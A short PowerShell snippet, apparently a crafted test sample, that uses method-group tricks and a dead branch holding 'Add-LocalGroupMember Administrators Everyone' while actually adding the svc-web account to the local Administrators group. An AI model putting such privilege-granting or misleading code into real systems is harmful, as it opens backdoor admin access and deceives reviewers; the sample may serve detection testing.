$clean = 'svc-web'.Replace
$ignored = [string]::Concat
if ($ignored.Name -ne 'Concat') { Add-LocalGroupMember Administrators Everyone }
Add-LocalGroupMember Administrators $clean.Invoke('Every', 'one')
